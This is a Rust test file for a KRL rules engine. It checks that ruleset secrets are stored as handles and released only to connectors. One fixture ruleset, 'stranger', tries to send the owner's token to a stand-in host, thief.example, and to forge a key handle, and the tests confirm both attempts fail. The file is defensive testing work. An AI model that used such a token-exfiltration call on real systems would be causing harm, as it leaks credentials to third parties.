//! Secrets of KRL rulesets on their way out: records hold handles, connectors get the secret.

use std::sync::Arc;

use stratus_engine::{Input, Key, Record};
use stratus_event::{Eci, Map, PenId, Value};
use stratus_krl::Krl;
use stratus_pen::language::Language;

use crate::world::{World, raise};

const OWNER: &str = r#"ruleset owner {
    meta { key token "t-o-p" }
    rule ask {
        select when a ask
        pre { answer = http:get("https://shop.example/?t=" + keys:token) }
        fired { ent:answer := answer{"content"} }
    }
    rule tell { select when a tell http:post("https://shop.example/", body = keys:token) }
    rule pass { select when a pass http:post("https://shop.example/", body = event:attrs{"text"}) }
}"#;

const STRANGER: &str = r#"ruleset stranger {
    meta { shares why }
    global { why = function() { ent:why } }
    rule ask { select when s ask http:post("https://thief.example/?t=" + keys:token) }
    rule guess { select when s guess http:post("https://thief.example/", body = "{{key owner token 0}}") }
    rule failed { select when system error fired { ent:why := event:attrs{"code"} } }
}"#;

const HANDLE: &str = "{{key owner token 0 ";
const GUESS: &str = "{{key owner token 0}}";
const SECRET: &str = "t-o-p";

fn world() -> (World, PenId, Eci) {
    let language: Arc<dyn Language> = Arc::new(Krl);
    let mut world = World::speaking(&language, 1, |_| {});
    let pen = world.pen(0);
    world.install(0, pen, OWNER);
    world.install(0, pen, STRANGER);
    let owner = world.owner(0, pen);
    (world, pen, owner)
}

/// Whether anything on the disk has the text, besides the rulesets' sources.
fn kept(world: &World, text: &str) -> bool {
    let records = world.nodes[0].disk.iter();
    let mut records = records.filter(|(key, _)| !matches!(key, Key::Program(_)));
    records.any(|(_, record)| format!("{record:?}").contains(text))
}

#[test]
fn a_question_is_kept_with_the_handle_and_asked_with_the_secret() {
    let (mut world, pen, owner) = world();
    world.give(0, raise(owner, "a:ask", &[]));
    world.run();
    let ask = world.nodes[0].asks[0].clone();
    assert_eq!(
        ask.arguments.text("url"),
        Some("https://shop.example/?t=t-o-p")
    );
    let record = &world.nodes[0].disk[&Key::Question(pen, ask.question)];
    let Record::Question { question, .. } = record else {
        panic!("{record:?}")
    };
    let url = question.arguments.text("url").unwrap();
    assert!(url.starts_with(&format!("https://shop.example/?t={HANDLE}")));
    let answer = Ok(Value::map(Map::from([("content", "12 pears")])));
    let question = ask.question;
    let input = Input::Answered {
        pen,
        question,
        answer,
    };
    world.handle(0, input);
    world.run();
    assert!(kept(&world, "12 pears"), "the rule has its answer");
    assert!(
        !kept(&world, SECRET),
        "neither journal nor record has the secret"
    );
}

#[test]
fn an_effect_is_kept_with_the_handle_and_done_with_the_secret() {
    let (mut world, _, owner) = world();
    world.nodes[0].verdicts.push_back(None);
    world.give(0, raise(owner, "a:tell", &[]));
    world.run();
    assert_eq!(
        world.nodes[0].performs[0].arguments.text("body"),
        Some(SECRET)
    );
    assert!(kept(&world, HANDLE) && !kept(&world, SECRET));
    world.crash(0);
    world.pass(600_000);
    let again = world.nodes[0].performs.last().unwrap();
    assert_eq!(
        (again.doubt, again.arguments.text("body")),
        (true, Some(SECRET))
    );
    assert!(!kept(&world, SECRET), "nor after a crash");
}

#[test]
fn a_stranger_gets_an_error_and_a_guess_stays_a_guess() {
    let (mut world, pen, owner) = world();
    world.ok(0, raise(owner, "s:ask", &[]));
    assert!(world.nodes[0].performs.is_empty());
    assert_eq!(
        world.query(0, pen, "stranger", "why"),
        Value::text("krl-module-member-unknown")
    );
    world.ok(0, raise(owner, "s:guess", &[]));
    assert_eq!(
        world.nodes[0].performs[0].arguments.text("body"),
        Some(GUESS)
    );
    assert!(!kept(&world, SECRET));
}

#[test]
fn what_looks_like_a_handle_in_an_event_is_passed_on_as_it_is() {
    let (mut world, _, owner) = world();
    world.ok(0, raise(owner, "a:pass", &[("text", GUESS)]));
    let sent = world.nodes[0].performs[0].arguments.clone();
    assert_eq!(sent.text("body"), Some(GUESS));
}
